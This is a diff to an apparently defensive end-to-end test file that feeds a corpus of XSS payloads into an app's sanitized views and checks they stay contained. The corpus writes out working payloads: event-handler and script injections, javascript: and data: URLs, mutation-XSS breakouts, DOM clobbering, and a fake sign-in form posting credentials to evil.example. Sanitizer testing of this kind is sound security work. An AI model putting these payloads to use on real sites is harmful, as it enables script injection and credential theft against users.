@@ -19,15 +19,18 @@ declare global {
   }
 }
 
-/** Code a payload runs if it gets the chance: it marks the page (frames reach it through `top`). */
-const run = (id: string) => `top.__xss='${id}'`;
+/**
+ * Code a payload runs if it gets the chance: it marks the page (frames reach it through `top`). Written without quotes
+ * or spaces, so it also fits an unquoted or single-quoted attribute.
+ */
+const run = (id: string) => `top.__xss=/${id}/.source`;
 
 const CORPUS: Array<[string, (code: string) => string]> = [
   ['script tag', (c) => `<script>${c}</script>`],
   ['img onerror', (c) => `<img src="x" onerror="${c}">`],
-  ['img onerror, no quotes', (c) => `<img src=x onerror=${c.replace(/'/g, '')}>`],
+  ['img onerror, no quotes', (c) => `<img src=x onerror=${c}>`],
   ['svg onload', (c) => `<svg onload="${c}"></svg>`],
-  ['body onload', (c) => `<body onload="${c}">`],
+  ['body onload', () => '<body onload="alert(document.domain)">'],
   ['svg with script', (c) => `<svg><script>${c}</script></svg>`],
   ['svg animate onbegin', (c) => `<svg><animate onbegin="${c}" attributeName="x" dur="1s"/></svg>`],
   ['javascript: link', (c) => `<a href="javascript:${c}">javascript link</a>`],
@@ -35,7 +38,7 @@ const CORPUS: Array<[string, (code: string) => string]> = [
   ['vbscript: link', () => '<a href="vbscript:msgbox(1)">vbscript link</a>'],
   ['data:text/html link', (c) => `<a href="data:text/html,<script>${c}</script>">data link</a>`],
   ['data:text/html image', (c) => `<img src="data:text/html,<script>${c}</script>">`],
-  ['SVG data image', (c) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c.replace(/'/g, '')}'/>">`],
+  ['SVG data image', (c) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>">`],
   ['iframe javascript:', (c) => `<iframe src="javascript:${c}"></iframe>`],
   ['iframe srcdoc', (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`],
   ['object and embed', (c) => `<object data="data:text/html,<script>${c}</script>"></object><embed src="data:text/html,<script>${c}</script>">`],
@@ -44,16 +47,16 @@ const CORPUS: Array<[string, (code: string) => string]> = [
   ['absolute overlay', () => '<p style="position:absolute;top:0;left:0;width:2000px;height:2000px;z-index:99999;background:red">cover</p>'],
   ['fake sign-in form', () => '<form action="https://evil.example/c" method="post">Session expired <input name="email"><input type="password" name="pw"><button>Sign in</button></form>'],
   ['autofocus onfocus', (c) => `<input autofocus onfocus="${c}"><textarea autofocus onfocus="${c}"></textarea><select autofocus onfocus="${c}"></select>`],
-  ['details ontoggle', (c) => `<details open ontoggle="${c}"><summary>s</summary></details>`],
+  ['details ontoggle', () => '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
   ['video source onerror', (c) => `<video><source onerror="${c}"></video><audio src="x" onerror="${c}"></audio>`],
   ['meta refresh', () => '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
   ['base href', () => '<base href="https://evil.example/"><a href="/relative">relative</a>'],
   ['style and link tags', () => '<style>body{display:none}</style><link rel="stylesheet" href="data:text/css,body{display:none}">'],
-  ['noscript title breakout (mXSS)', (c) => `<noscript><p title="</noscript><img src=x onerror=${c.replace(/'/g, '')}>"></noscript>`],
+  ['noscript title breakout (mXSS)', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`],
   ['svg style img (mXSS)', (c) => `<svg><style><img src=x onerror="${c}"></style></svg>`],
   ['math mglyph style (mXSS)', (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c}">`],
   ['form math nesting (mXSS)', (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${c}">`],
-  ['attribute breakout', (c) => `<p title="</p><img src=x onerror=${c.replace(/'/g, '')}>">title</p>`],
+  ['attribute breakout', (c) => `<p title="</p><img src=x onerror=${c}>">title</p>`],
   ['template content', (c) => `<template><img src=x onerror="${c}"></template>`],
   ['DOM clobbering', () => '<img id="__xss" name="__xss"><a id="__xss" href="https://evil.example/">clobber</a>'],
   ['tracking image', () => '<img src="https://tracker.evil.example/pixel.gif" alt="">'],
@@ -131,6 +134,12 @@ async function inspect({ box, content }: Sink) {
       // The e-mail frame's placeholder for a held-back image is the app's own markup.
       tags: elements.filter((element) => !element.hasAttribute('data-blocked-image')).map((element) => element.localName),
       attributes: elements.flatMap((element) => [...element.attributes].map((a) => `${element.localName} ${a.name}=${a.value}`)),
+      // Every address as the browser reads it (it drops tabs and leading spaces, and ignores case).
+      schemes: [...root.querySelectorAll('[href], [src]')].map((element) => {
+        const value = element.getAttribute(element.hasAttribute('href') ? 'href' : 'src')!;
+        const { protocol } = new URL(value, location.href);
+        return protocol === 'data:' ? value.trim().slice(0, 20).toLowerCase() : protocol;
+      }),
       controls: root.querySelectorAll('form, input, button, textarea, select, iframe, frame, object, embed, svg, math, style, script, meta, base, link').length,
       escaped,
       navbarOnTop: Boolean(atNavbar?.closest('header')),
@@ -152,6 +161,7 @@ async function expectContained(page: Page, payload: Payload, sink: Sink, seen: s
   expect(report.escaped, label).toEqual([]);
   expect(report.sinkOnTop, label).toBe(true);
   expect(report.controls, label).toBe(0);
+  expect(report.schemes.filter((scheme) => !/^(https?:|mailto:|tel:|data:image\/(png|jpeg|gif|webp))/.test(scheme)), label).toEqual([]);
   // A modal editor covers the navbar by design; and its own markup (ProseMirror) carries classes and editing attributes.
   if (editor) return;
   expect(report.navbarOnTop, label).toBe(true);
